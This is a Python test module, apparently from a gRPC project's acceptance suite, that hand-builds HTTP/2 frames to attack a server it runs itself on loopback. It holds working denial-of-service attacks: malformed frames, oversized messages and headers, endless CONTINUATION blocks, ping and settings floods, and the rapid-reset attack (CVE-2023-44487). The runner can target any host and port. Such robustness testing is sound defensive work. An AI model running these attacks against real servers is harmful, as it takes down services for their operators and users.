"""Clients that misbehave, as a process of their own: `python -m tests.acceptance.attacks HOST:PORT NAME SECONDS SEED`.

They speak HTTP/2 (RFC 9113) by hand, because no library would send what they send. For a server of our own on
loopback, and nothing else.
"""

import itertools
import random
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator, Mapping

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 0x1, 0x4
PATH = b"/ingest_grpc.v1.JobService/ListJobs"
KIB, MIB = 2**10, 2**20


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream_id.to_bytes(4, "big") + payload


def literal(name: bytes, value: bytes) -> bytes:
    """A header that is not indexed (RFC 7541, 6.2.2)."""
    return b"\x00" + _text(name) + _text(value)


def _text(value: bytes) -> bytes:
    """Its length as an integer with a prefix of seven bits (RFC 7541, 5.1)."""
    if len(value) < 127:
        return bytes((len(value),)) + value
    rest, encoded = len(value) - 127, bytearray((127,))
    while rest >= 128:
        encoded.append(rest % 128 + 128)
        rest //= 128
    return bytes(encoded) + bytes((rest,)) + value


CALL = (
    b"\x83\x86"
     b"\x01" + _text(b"localhost")
    + b"\x04" + _text(PATH)
    + literal(b"content-type", b"application/grpc")
    + literal(b"te", b"trailers")
)  # fmt: skip
OPENED = PREFACE + frame(SETTINGS, 0, 0)

Attack = Callable[[random.Random], Iterator[bytes]]
"""What one connection sends, piece by piece, until it has nothing more or the server hangs up."""


def garbage(rng: random.Random) -> Iterator[bytes]:
    yield rng.choice((b"", OPENED, PREFACE[:10], b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"))
    yield rng.randbytes(rng.randint(1, 4 * KIB))


def malformed_frames(rng: random.Random) -> Iterator[bytes]:
    """Of any type, with any flags, on any stream, with any bytes; or longer than they say."""
    yield OPENED
    for _ in range(rng.randint(1, 50)):
        broken = frame(rng.randrange(12), rng.randrange(256), rng.choice((0, 1, 2, 3, 2**31 - 1)), rng.randbytes(20))
        yield broken if rng.random() < 0.9 else broken[: rng.randint(1, len(broken))]


def malformed_messages(rng: random.Random) -> Iterator[bytes]:
    """Whole calls whose message is no message."""
    yield OPENED
    for stream_id in range(1, 200, 2):
        body = rng.randbytes(rng.randint(0, 200))
        prefix = struct.pack("!BI", rng.choice((0, 0, 1, 7)), len(body) + rng.choice((0, 0, 5)))
        yield frame(HEADERS, END_HEADERS, stream_id, CALL) + frame(DATA, END_STREAM, stream_id, prefix + body)


def large_messages(rng: random.Random) -> Iterator[bytes]:
    """Larger than the server takes, as far as its window lets them in."""
    yield OPENED
    yield frame(HEADERS, END_HEADERS, 1, CALL) + frame(DATA, 0, 1, struct.pack("!BI", 0, 64 * MIB))
    for _ in range(64):
        yield frame(DATA, 0, 1, bytes(16 * KIB))


def large_metadata(rng: random.Random) -> Iterator[bytes]:
    yield OPENED
    for stream_id in range(1, 100, 2):
        block = CALL + b"".join(literal(b"x-%d" % number, b"v" * 4_000) for number in range(16))
        pieces = [block[start : start + 16_000] for start in range(0, len(block), 16_000)]
        yield frame(HEADERS, END_STREAM, stream_id, pieces[0])
        for piece in pieces[1:-1]:
            yield frame(CONTINUATION, 0, stream_id, piece)
        yield frame(CONTINUATION, END_HEADERS, stream_id, pieces[-1])


def endless_headers(rng: random.Random) -> Iterator[bytes]:
    """A header block that never ends."""
    yield OPENED + frame(HEADERS, 0, 1, CALL)
    for number in range(10_000):
        yield frame(CONTINUATION, 0, 1, literal(b"x-%d" % number, b"v" * 100))


def ping_flood(rng: random.Random) -> Iterator[bytes]:
    yield OPENED
    for _ in range(1_000):
        yield frame(PING, 0, 0, rng.randbytes(8)) * 20


def settings_flood(rng: random.Random) -> Iterator[bytes]:
    yield OPENED
    for _ in range(1_000):
        yield frame(SETTINGS, 0, 0) * 20


def empty_data(rng: random.Random) -> Iterator[bytes]:
    yield OPENED + frame(HEADERS, END_HEADERS, 1, CALL)
    for _ in range(1_000):
        yield frame(DATA, 0, 1) * 20


def rapid_resets(rng: random.Random) -> Iterator[bytes]:
    """Ten thousand calls that are taken back as soon as they are made (CVE-2023-44487)."""
    yield OPENED
    for first in range(1, 20_000, 20):
        yield b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, stream_id, CALL) + frame(RESET, 0, stream_id, struct.pack("!I", 8))
            for stream_id in range(first, first + 20, 2)
        )


def half_open(rng: random.Random) -> Iterator[bytes]:
    """A connection that says nothing, or only how it would begin."""
    yield rng.choice((b"", PREFACE, OPENED))
    time.sleep(0.2)


ATTACKS: Mapping[str, Attack] = {
    attack.__name__: attack
    for attack in (
        garbage,
        malformed_frames,
        malformed_messages,
        large_messages,
        large_metadata,
        endless_headers,
        ping_flood,
        settings_flood,
        empty_data,
        rapid_resets,
        half_open,
    )
}


def attack(address: str, name: str, seconds: float, seed: int) -> int:
    """One connection after the other until the time is over; returns how many."""
    host, _, port = address.rpartition(":")
    ends, rng = time.monotonic() + seconds, random.Random(seed)
    for count in itertools.count():
        if time.monotonic() >= ends:
            return count
        try:
            with socket.create_connection((host, int(port)), timeout=5) as connection:
                connection.settimeout(1)
                for piece in ATTACKS[name](rng):
                    connection.sendall(piece)
                    if time.monotonic() >= ends:
                        break
                connection.shutdown(socket.SHUT_WR)
                while connection.recv(64 * KIB):
                    if time.monotonic() >= ends + 0.5:
                        break
        except OSError:
            continue  # the server hung up, as it should
    raise AssertionError("unreachable")


if __name__ == "__main__":
    print(attack(sys.argv[1], sys.argv[2], float(sys.argv[3]), int(sys.argv[4])))  # noqa: T201
